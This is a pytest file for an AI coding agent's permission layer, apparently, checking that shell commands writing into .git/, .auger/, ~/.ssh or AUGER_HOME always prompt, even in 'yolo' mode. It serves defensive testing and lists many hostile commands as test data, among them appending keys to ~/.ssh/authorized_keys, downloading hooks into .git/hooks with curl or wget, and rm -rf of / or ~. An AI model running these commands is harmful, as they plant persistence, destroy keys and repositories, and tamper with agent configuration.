"""Shell commands that write protected paths (.git/, .auger/, ~/.ssh, AUGER_HOME) ask first, in
every mode; reads, git itself and ordinary writes do not (auger.core.safety.written_paths)."""

from __future__ import annotations

from pathlib import Path

import pytest

from auger.core.safety.permissions import PermissionEngine
from auger.core.safety.shell_parser import analyse
from auger.core.safety.written_paths import ShellWrites


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    root = tmp_path / "proj"
    for folder in (".git/hooks", ".auger", "sub/deeper", "build"):
        (root / folder).mkdir(parents=True)
    return root


def engine(root: Path, **rules: list[str]) -> PermissionEngine:
    return PermissionEngine(root=root, protected=[root.parent / "auger-home"], **rules)


def reason(root: Path, command: str) -> str | None:
    return engine(root).shell_writes.reason(command)


ASKS = [
    # (command, the protected folder named, the path named)
    ("echo x > .git/config", ".git", ".git/config (redirect >)"),
    ("cat key >> ~/.ssh/authorized_keys", "~/.ssh", "~/.ssh/authorized_keys (redirect >>)"),
    ("tee .auger/config.toml", ".auger", ".auger/config.toml (tee)"),
    ("ls | tee -a .git/info/exclude", ".git", ".git/info/exclude (tee)"),
    ("rm -rf .git", ".git", "removes .git (rm -r)"),
    ("mv a .git/hooks/pre-commit", ".git", ".git/hooks/pre-commit (mv)"),
    ("mv .git /tmp/elsewhere", ".git", "moves .git (mv)"),
    ("cp evil ~/.ssh/id_rsa", "~/.ssh", "~/.ssh/id_rsa (cp)"),
    ("cp -t .git/hooks evil", ".git", ".git/hooks (cp)"),
    ("sed -i s/a/b/ .git/config", ".git", ".git/config (sed -i)"),
    ("sed -ie 's/x/y/' .git/config", ".git", ".git/config (sed -i)"),
    ("perl -pi -e 's/a/b/' .git/config", ".git", ".git/config (perl -i)"),
    ("chmod +x .git/hooks/x", ".git", ".git/hooks/x (chmod)"),
    ("ln -sf /tmp/evil .git/hooks/post-commit", ".git", ".git/hooks/post-commit (ln)"),
    ("truncate -s 0 .git/index", ".git", ".git/index (truncate)"),
    ("dd if=/dev/zero of=.git/HEAD bs=1 count=1", ".git", ".git/HEAD (dd of=)"),
    ("install -m 755 hook .git/hooks/pre-push", ".git", ".git/hooks/pre-push (install)"),
    ("mkdir -p .auger/skills/x", ".auger", ".auger/skills/x (mkdir)"),
    ("shred -u ~/.ssh/id_rsa", "~/.ssh", "removes ~/.ssh/id_rsa (shred)"),
    ("curl -sSo .git/hooks/pre-commit https://x.example/h", ".git", ".git/hooks/pre-commit (curl)"),
    ("wget -O .git/hooks/pre-commit https://x.example/h", ".git", ".git/hooks/pre-commit (wget)"),
    ("find .git -name '*.lock' -delete", ".git", "removes .git (find -delete)"),
    ("find .git -name x -exec rm {} +", ".git", "removes .git (find -exec rm)"),
    ("rsync -a hooks/ .git/hooks/", ".git", ".git/hooks (rsync)"),
    ("echo x 2> .git/err", ".git", ".git/err (redirect 2>)"),
    ("echo x &> .git/out", ".git", ".git/out (redirect &>)"),
    ("echo x >| .git/config", ".git", ".git/config (redirect >|)"),
    ("echo x >&.git/both", ".git", ".git/both (redirect >&)"),
    ("git log > .git/notes.txt", ".git", ".git/notes.txt (redirect >)"),  # the shell writes it, not git
    ("> .git/config", ".git", ".git/config (redirect >)"),
    ("exec 3<> .git/lock", ".git", ".git/lock (redirect 3<>)"),
    ("ls | xargs -I{} cp {} .git/hooks/", ".git", ".git/hooks (cp)"),
    # inside sh -c, substitutions, groups, here-documents
    ("bash -c 'echo x > .git/config'", ".git", ".git/config (redirect >)"),
    ('sh -lc "cd .git && rm config"', ".git", "removes .git/config (rm)"),
    ("echo $(cat a > .git/x)", ".git", ".git/x (redirect >)"),
    ("{ echo a; } > .git/x", ".git", ".git/x (redirect >)"),
    ("(echo a) >> .auger/x", ".auger", ".auger/x (redirect >>)"),
    ("cat > .git/c <<'EOF'\nharmless > text\nEOF", ".git", ".git/c (redirect >)"),
    ("cat <<EOF > .git/c\nharmless\nEOF", ".git", ".git/c (redirect >)"),
    ("if true; then echo x > .git/y; fi", ".git", ".git/y (redirect >)"),
    # wrappers
    ("sudo -u me env A=1 timeout 5 nice -n 3 rm .git/index", ".git", "removes .git/index (rm)"),
    ("FOO=1 command tee .auger/x", ".auger", ".auger/x (tee)"),
    ("/usr/bin/tee .auger/x", ".auger", ".auger/x (tee)"),
    # paths: cwd, .., absolute, ~, $HOME, symlinks, globs, case
    ("cd .git && echo x > config", ".git", ".git/config (redirect >)"),
    ("cd sub/deeper; cd ../..; rm -f .git/HEAD", ".git", "removes .git/HEAD (rm)"),
    ("cd ~/.ssh && echo k >> authorized_keys", "~/.ssh", "~/.ssh/authorized_keys (redirect >>)"),
    ("echo x > ./.git/config", ".git", ".git/config (redirect >)"),
    ("echo x > sub/../.git/config", ".git", ".git/config (redirect >)"),
    ("echo x > $HOME/.ssh/config", "~/.ssh", "~/.ssh/config (redirect >)"),
    ("echo x > ${HOME}/.ssh/config", "~/.ssh", "~/.ssh/config (redirect >)"),
    ("echo x > sub/.git/config", ".git", "sub/.git/config (redirect >)"),
    ("rm -rf .g*", ".git", "removes .g* (rm -r)"),
    ("rm -rf * .*", ".git", "removes .* (rm -r)"),
    ("echo x > .GIT/config", ".git", ".GIT/config (redirect >)"),
    ("cd $SOMEWHERE && echo > .git/x", ".git", ".git/x (redirect >)"),
    # removing what holds a protected folder
    ("rm -rf .", ".git", "rm -r . takes .git/ with it"),
    ("rm -r sub/..", ".git", "rm -r . takes .git/ with it"),
    ("rm -rf ~", "~/.ssh", "rm -r ~ takes ~/.ssh/ with it"),
    ("rm -rf /", ".git", "rm -r / takes .git/ with it"),
    # through a link the line itself makes
    ("ln -s ~/.ssh k && echo x >> k/authorized_keys", "~/.ssh", "~/.ssh/authorized_keys (redirect >>)"),
    ("ln -sfn .git g; cd g && echo x > config", ".git", ".git/config (redirect >)"),
    # an unparseable line: a write before the broken part still counts
    ('echo x > .git/config; echo "oops', ".git", ".git/config (redirect >)"),
]


@pytest.mark.parametrize(("command", "folder", "said"), ASKS)
def test_writes_into_protected_paths_are_found(project: Path, command: str, folder: str, said: str) -> None:
    got = reason(project, command)
    assert got is not None, command
    assert got.startswith(f"protected path ({folder}/): "), got
    assert got.endswith(said), got


def test_absolute_path_into_the_project_and_a_symlink_to_ssh(project: Path) -> None:
    assert reason(project, f"echo x > {project}/.git/config") is not None
    (project / "keys").symlink_to(Path("~/.ssh").expanduser(), target_is_directory=True)
    got = reason(project, "echo k >> keys/authorized_keys")
    assert got is not None and got.startswith("protected path (~/.ssh/)")
    got = reason(project, "touch ../auger-home/config.toml")
    assert got is not None and "auger-home/" in got


NOT_ASKED = [
    "cat .git/config",
    "git status",
    "git commit -m 'x > .git/y'",
    "git add -A && git commit -qm wip",
    "grep foo .git/x",
    "cd .git && cat config && ls hooks",
    "echo > /tmp/x",
    "ls 2>/dev/null",
    "echo hi >&2",
    "make 2>&1 | tail",
    "echo x >> .gitignore",
    "touch .github/workflows/ci.yml",
    "mkdir -p .augerx",
    "cp .git/config /tmp/backup",
    "cp ~/.ssh/id_rsa.pub /tmp/k",
    "ln -s .git/config link",
    "ln -s build out && echo x > out/log",
    "tar czf /tmp/x.tgz .git",
    "rm -rf build/*",
    "rm -rf ./*",
    "rm -rf node_modules build",
    "find . -name '*.pyc' -delete",
    "find .git -name x -exec grep y {} +",
    "mv src/x.py .",
    "sed 's/.git/x/' README > out.txt",
    "sed -i 's/.git/x/' README",
    "perl -Mstrict -e 'print' .git/config",
    "echo '> .git/config'",
    'echo ">" .git/config',
    "python -c 'print(1)' > out.txt",
    "diff <(cat .git/HEAD) x",
    "pytest -x 2>&1 | tee /tmp/log",
    "cd $SOMEWHERE && rm x",
    "echo x > $(mktemp)",
    "[[ a > b ]] && echo yes",
    "cat <<EOF\n> .git/config\nEOF",
    'echo "unterminated > .git/config',
]


@pytest.mark.parametrize("command", NOT_ASKED)
def test_reads_git_and_ordinary_writes_do_not_ask(project: Path, command: str) -> None:
    assert reason(project, command) is None


def test_yolo_and_allow_rules_still_ask_deny_still_wins(project: Path) -> None:
    eng = engine(project, allow=["execute", "execute(echo *)"])
    got = eng.evaluate("execute", {"command": "echo x > .git/config"}, mode="yolo", gated=True)
    assert got.action == "ask"
    assert got.reason == "protected path (.git/): it writes .git/config (redirect >)"
    grant = eng.evaluate(
        "execute",
        {"command": "tee .auger/x"},
        mode="yolo",
        gated=True,
        grants=("execute(tee .auger/x)",),
    )
    assert grant.action == "ask"  # an "always allow" does not lift it either, as for file tools
    assert eng.evaluate("execute", {"command": "echo x > out"}, mode="yolo", gated=True).action == "allow"
    assert (
        eng.evaluate("execute", {"command": "git commit -m x"}, mode="manual", gated=True).action == "allow"
    )
    denying = engine(project, deny=["execute(rm *)"])
    got = denying.evaluate("execute", {"command": "rm -rf .git"}, mode="yolo", gated=True)
    assert (got.action, got.reason) == ("deny", 'deny rule "execute(rm *)"')


@pytest.mark.parametrize(
    ("text", "argv", "redirects"),
    [
        ("echo x>.git/c", ["echo", "x"], [(">", ".git/c")]),
        ("a 2>/dev/null >&2", ["a"], [("2>", "/dev/null"), (">&", "2")]),
        ("echo 2 > x", ["echo", "2"], [(">", "x")]),
        ("tee \"a b\"'c'\\ d", ["tee", "a bc d"], []),
        ('echo "$(cat ")") >x"', ["echo", '$(cat ")") >x'], []),
        ("cat <<-EOF\nx\nEOF", ["cat"], [("<<-", "EOF")]),
        ("ls # > .git/x", ["ls"], []),
    ],
)
def test_words_and_redirections_as_the_shell_reads_them(
    text: str, argv: list[str], redirects: list[tuple[str, str]]
) -> None:
    first = analyse(text)[0]
    assert (first.argv, first.redirects) == (argv, redirects)


def test_segments_keep_their_redirections_and_clobber_redirects_stay_whole() -> None:
    segments = analyse("cd x && bash -c 'echo \"a b\" > f' >| log")
    assert [(s.argv, s.redirects) for s in segments] == [
        (["cd", "x"], []),
        (["bash", "-c", 'echo "a b" > f'], [(">|", "log")]),
        (["echo", "a b"], [(">", "f")]),
    ]


def test_shell_writes_alone_needs_no_engine(tmp_path: Path) -> None:
    sw = ShellWrites(tmp_path)
    assert sw.reason("echo x > .auger/y") == "protected path (.auger/): it writes .auger/y (redirect >)"
    assert sw.reason("echo x > y") is None


def test_inherited_variables_are_expanded_unless_the_line_sets_them(project: Path) -> None:
    """The shell inherits auger's environment: `$AUGER_HOME/AGENTS.md` is AUGER_HOME's file."""
    home = project.parent / "auger-home"
    sw = ShellWrites(project, [home], env={"AUGER_HOME": str(home), "SRC": str(project / "sub")})
    assert sw.reason("echo evil >> $AUGER_HOME/AGENTS.md") is not None
    assert sw.reason("mkdir -p ${AUGER_HOME}/skills/evil") is not None
    assert sw.reason("cd $AUGER_HOME && echo x > AGENTS.md") is not None
    assert sw.reason("cd $SRC && echo x > out.txt") is None
    assert sw.reason("AUGER_HOME=/tmp/elsewhere; echo x > $AUGER_HOME/a") is None  # set by the line
    assert sw.reason("echo x > $UNSET_VAR/AGENTS.md") is None
    assert sw.reason("ln -s $AUGER_HOME x && echo > x/f") is not None  # a link made on the line
    unknown = sw.reason("ln -s $(cat p) x && touch x/f")
    assert unknown is not None and unknown.startswith("a link made by this command: it writes x/f (touch)")
